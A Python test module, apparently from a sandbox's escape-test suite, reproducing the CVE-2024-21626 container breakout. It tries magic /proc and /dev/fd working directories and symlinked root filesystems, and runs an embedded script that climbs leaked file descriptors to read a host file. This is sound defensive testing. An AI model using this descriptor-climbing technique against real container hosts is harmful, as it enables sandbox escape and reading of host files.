"""ML-02: a working directory that is a descriptor of the host's, to start outside (CVE-2024-21626)."""
import os

from escape.harness import escaped
from escape.lib_files import SECRET, folder, refusal, room, secret, taken_out

TITLE = "working directory through a descriptor"
TRIED = "--workdir of 12 magic names, as links in --rootfs, with 20 directories of the host left open by the caller"
WALLS = ["descriptors", "mount_namespace"]

MAGIC = ["/proc/self/fd/3", "/proc/self/fd/7", "/proc/self/cwd", "/proc/self/root", "/proc/1/root", "/proc/1/cwd",
         "/proc/thread-self/fd/8", "/dev/fd/7", "/dev/fd", "/proc", "/workspace/../proc/self/fd/7", "/proc/self/fd/7/.."]
# From each descriptor and from where it stands a program climbs up and looks for the host's file.
CLIMB = """
import json, os, sys
found = []
places = [os.getcwd(), "."] + [f"/proc/self/fd/{n}" for n in range(64)] + [f"/dev/fd/{n}" for n in range(64)]
for place in places:
    for up in ("", "/..", "/../..", "/../../.."):
        try: found.append(open(place + up + "/" + sys.argv[1]).read())
        except OSError: pass
print(json.dumps([os.getcwd(), os.readlink("/proc/self/cwd"), found]))
"""


def image(root, target):
    """A root file system whose /job is a link."""
    for name in ("bin", "proc", "dev", "tmp", "etc"):
        (root / name).mkdir(parents=True)
    (root / "job").symlink_to(target)
    return root


def climb(box, here, **more):
    secret(here / "canary")
    fds = [os.open(folder(here / f"open-{n}"), os.O_RDONLY | os.O_DIRECTORY) for n in range(20)]
    try:
        return box.inside(CLIMB, args=["canary"], pass_fds=fds, cwd=here / "open-0", **more)
    finally:
        for fd in fds:
            os.close(fd)


def attack(box):
    words = set()
    with room() as here:
        for name in MAGIC:
            words.add(refusal(box.run(["true"], flags=["--workdir", name], may_refuse=True), 65))
        for name in MAGIC[:6]:
            root = image(here / f"root{len(words)}-{name.replace('/', '-')}", name)
            flags = ["--rootfs", root, "--workdir"]
            words.add(refusal(box.run(["/bin/true"], flags=[*flags, "/job"], may_refuse=True), 68))
            words.add(refusal(box.run(["/bin/true"], flags=[*flags, "/job/sub"], may_refuse=True), 68))
        cwd, link, found = climb(box, here)
        if found:
            escaped("READ", "the host's file was read from a descriptor")
        assert cwd == link == "/workspace", (cwd, link)
    return f"{', '.join(sorted(words))}; started in {cwd}"


def control(box):
    """Descriptors that are not closed lead out; so does a link, when coto follows names."""
    with room() as here:
        _, _, found = climb(box, here, without=["fds", "landlock"])
        victim = folder(here / "victim")
        for number, target in enumerate((victim, f"/proc/self/root{victim}")):
            flags = ["--rootfs", image(here / f"root{number}", target), "--workdir", "/job/sub"]
            box.run(["/bin/true"], flags=flags, may_refuse=True, without=["beneath"])
            made = taken_out(victim)
            assert made == ["sub"], (target, made)
    assert SECRET in found, found
    return "the host's file read through a descriptor left open; a working directory made on the host"
